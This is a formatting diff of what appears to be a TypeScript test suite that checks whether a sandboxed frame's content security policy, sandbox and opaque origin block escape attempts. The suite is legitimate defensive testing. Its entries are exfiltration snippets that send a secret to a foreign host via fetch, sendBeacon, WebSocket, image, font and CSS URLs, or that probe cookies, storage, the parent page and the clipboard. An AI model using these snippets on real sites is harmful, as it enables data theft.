@@ -5,7 +5,12 @@ const POLICY = 'content security policy of the frame: no address';
 const SANDBOX = 'sandbox of the frame';
 const ORIGIN = 'opaque origin of the frame';
 
-const attack = (name: string, wall: string, code: string): Attack => ({ attack: name, wall, place: 'frame', code });
+const attack = (name: string, wall: string, code: string): Attack => ({
+  attack: name,
+  wall,
+  place: 'frame',
+  code,
+});
 /** An element that would fetch something by being there. */
 const element = (name: string, markup: string): Attack =>
   attack(
@@ -24,7 +29,11 @@ export const IN_FRAME: readonly Attack[] = [
   ),
   attack('fetch', 'deleted, and content security policy', `return (await fetch(foreign)).status;`),
   attack('sendBeacon', POLICY, `navigator.sendBeacon(foreign, secret); await wait(400);`),
-  attack('WebSocket', 'deleted, and content security policy', `new WebSocket(foreign.replace('http', 'ws')); await wait(300);`),
+  attack(
+    'WebSocket',
+    'deleted, and content security policy',
+    `new WebSocket(foreign.replace('http', 'ws')); await wait(300);`,
+  ),
   element('img', `{ src: foreign + '?' + secret }`),
   element('script', `{ text: 'self.leak = 1' }`),
   element('iframe', `{ src: foreign + '?' + secret }`),
@@ -39,7 +48,11 @@ export const IN_FRAME: readonly Attack[] = [
     POLICY,
     `document.body.style.backgroundImage = 'url(' + foreign + '?' + secret + ')'; await wait(400);`,
   ),
-  attack('a font', POLICY, `await new FontFace('a', 'url(' + foreign + '?' + secret + ')').load(); return true;`),
+  attack(
+    'a font',
+    POLICY,
+    `await new FontFace('a', 'url(' + foreign + '?' + secret + ')').load(); return true;`,
+  ),
   attack('import() from the own host with a query', POLICY, `await import(own + '?' + secret); return true;`),
   attack(
     'a form',
@@ -51,9 +64,17 @@ export const IN_FRAME: readonly Attack[] = [
   attack('the page read', ORIGIN, `return parent.document.title;`),
   attack('local storage', ORIGIN, `localStorage.setItem('leak', secret); return true;`),
   attack('a cookie', ORIGIN, `document.cookie = 'leak=' + secret; return document.cookie.includes(secret);`),
-  attack('a database', ORIGIN, `return await new Promise((y, n) => { const r = indexedDB.open('leak'); r.onsuccess = () => y(true); r.onerror = () => n(r.error); });`),
+  attack(
+    'a database',
+    ORIGIN,
+    `return await new Promise((y, n) => { const r = indexedDB.open('leak'); r.onsuccess = () => y(true); r.onerror = () => n(r.error); });`,
+  ),
   attack('caches', ORIGIN, `return Boolean(await caches.open('leak'));`),
-  attack('a download', SANDBOX, `const a = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob([secret])), download: secret }); a.click(); await wait(200);`),
+  attack(
+    'a download',
+    SANDBOX,
+    `const a = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob([secret])), download: secret }); a.click(); await wait(200);`,
+  ),
   attack('the clipboard', SANDBOX, `await navigator.clipboard.writeText(secret); return true;`),
   attack(
     'something that is no word of the frame, told to the page',
